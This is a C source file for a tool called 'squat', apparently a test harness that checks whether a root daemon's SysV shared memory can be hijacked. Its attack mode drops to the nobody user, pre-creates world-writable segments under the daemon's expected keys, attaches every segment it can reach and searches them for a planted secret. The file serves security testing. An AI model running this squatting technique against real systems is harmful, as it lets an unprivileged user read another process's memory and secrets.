/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * squat: an ordinary user's attempts on the segment of a root's zsblkd, and the secret that they are after.
 *
 *     squat secret MIB        fill MIB with pages that have the needle in them; for each line of standard input have the
 *                             kernel swap them out; at the line "end" check them
 *     squat attack NAME KEY   as an ordinary user: until a line comes on standard input, make every segment that does not exist under KEY
 *                             or under a hash of NAME, attach every segment there is, and keep those; then search them
 *     squat search ID         search the segment with this identifier
 *     squat mode ID MODE      change its mode
 *
 * Exit status: 0 the needle was found, or it was no search; 1 it was not; 2 the program itself failed.
 */
#include <errno.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/shm.h>
#include <time.h>
#include <unistd.h>

#define XXH_INLINE_ALL
#include <xxhash.h>

#define PAGE   4096u
#define NEEDLE "root-secret-0123456789"
/* Enough for any device of the scenario. */
#define SQUAT_BYTES (1u << 30)
#define MOST        256
#define NOBODY      65534

static void die(const char *what)
{
	fprintf(stderr, "squat: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* ------------------------------------------------------------------ the secret */

/* Noise, so that they are stored as they are. */
static void fill(uint8_t *page, size_t number)
{
	uint64_t x = number * 2 + 1;

	for (size_t i = 0; i < PAGE; i += 8) {
		x ^= x << 13, x ^= x >> 7, x ^= x << 17;
		memcpy(page + i, &x, 8);
	}
	memcpy(page + 100, NEEDLE, sizeof NEEDLE - 1);
}

static int keep_secret(size_t pages)
{
	uint8_t *mem = mmap(NULL, pages * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0),
		wanted[PAGE];
	char line[16];

	if (mem == MAP_FAILED)
		die("mmap");
	for (size_t i = 0; i < pages; i++)
		fill(mem + i * PAGE, i);
	puts("squat: filled");
	fflush(stdout);
	while (fgets(line, sizeof line, stdin) && strcmp(line, "end\n") != 0) {
		if (madvise(mem, pages * PAGE, MADV_PAGEOUT) < 0)
			die("madvise(MADV_PAGEOUT)");
		puts("squat: swapped out");
		fflush(stdout);
	}
	for (size_t i = 0; i < pages; i++) {
		fill(wanted, i);
		if (memcmp(mem + i * PAGE, wanted, PAGE) != 0)
			die("a page is wrong");
	}
	puts("squat: every page is right");
	return 0;
}

/* ------------------------------------------------------------------ the search */

/* Only what is in memory: to read the rest would fill it. */
static bool has_needle(const uint8_t *mem, size_t bytes)
{
	unsigned char resident;

	for (size_t at = 0; at + PAGE <= bytes; at += PAGE)
		if (mincore((void *)(mem + at), PAGE, &resident) == 0 && (resident & 1) &&
		    memmem(mem + at, PAGE, NEEDLE, sizeof NEEDLE - 1))
			return true;
	return false;
}

static int search(int id)
{
	struct shmid_ds ds;
	uint8_t *mem = shmat(id, NULL, SHM_RDONLY);

	if (mem == (void *)-1 || shmctl(id, IPC_STAT, &ds) < 0)
		die("shmat");
	return !has_needle(mem, ds.shm_segsz);
}

/* ------------------------------------------------------------------ the attack */

static struct {
	int id;
	uint8_t *mem;
	size_t bytes;
} held[MOST];
static unsigned n_held, made, refused;

static void hold(int id)
{
	struct shmid_ds ds;
	uint8_t *mem;

	for (unsigned i = 0; i < n_held; i++)
		if (held[i].id == id)
			return;
	mem = shmat(id, NULL, 0);
	if (mem == (void *)-1)
		mem = shmat(id, NULL, SHM_RDONLY);
	if (mem == (void *)-1 || n_held == MOST || shmctl(id, IPC_STAT, &ds) < 0) {
		refused++;
		return;
	}
	held[n_held].id = id;
	held[n_held].mem = mem;
	held[n_held++].bytes = ds.shm_segsz;
}

/* Be the one who makes it, and open it to all. */
static void squat(key_t key)
{
	int id = shmget(key, SQUAT_BYTES, IPC_CREAT | IPC_EXCL | SHM_NORESERVE | 0666);

	if (id < 0)
		return;
	made++;
	hold(id);
}

static void hold_all(void)
{
	FILE *f = fopen("/proc/sysvipc/shm", "re");
	char line[512];
	int id;

	if (!f)
		die("/proc/sysvipc/shm");
	while (fgets(line, sizeof line, f))
		if (sscanf(line, "%*d %d", &id) == 1)
			hold(id);
	fclose(f);
}

static int attack(const char *name, key_t key)
{
	const key_t hashed = (key_t)(XXH32(name, strlen(name), 0x7a73) | 1u);
	struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
	unsigned found = 0;

	if (setresgid(NOBODY, NOBODY, NOBODY) < 0 || setresuid(NOBODY, NOBODY, NOBODY) < 0)
		die("setresuid");
	squat(key);
	squat(hashed);
	puts("squat: ready");
	fflush(stdout);
	do {
		squat(key);
		squat(hashed);
		hold_all();
	} while (poll(&input, 1, 1) == 0);
	for (unsigned i = 0; i < n_held; i++)
		found += has_needle(held[i].mem, held[i].bytes);
	printf("squat: user %d made %u, holds %u, was refused %u times; the needle is in %u\n", (int)getuid(), made,
	       n_held, refused, found);
	return !found;
}

int main(int argc, char **argv)
{
	struct shmid_ds ds;

	if (argc == 3 && strcmp(argv[1], "secret") == 0)
		return keep_secret(strtoul(argv[2], NULL, 0) << 8);
	if (argc == 4 && strcmp(argv[1], "attack") == 0)
		return attack(argv[2], (key_t)strtoul(argv[3], NULL, 0));
	if (argc == 3 && strcmp(argv[1], "search") == 0)
		return search(atoi(argv[2]));
	if (argc == 4 && strcmp(argv[1], "mode") == 0) {
		if (shmctl(atoi(argv[2]), IPC_STAT, &ds) < 0)
			die("shmctl");
		ds.shm_perm.mode = (unsigned short)strtoul(argv[3], NULL, 8);
		if (shmctl(atoi(argv[2]), IPC_SET, &ds) < 0)
			die("shmctl");
		return 0;
	}
	fprintf(stderr, "usage: squat secret MIB | attack NAME KEY | search ID | mode ID MODE\n");
	return 2;
}
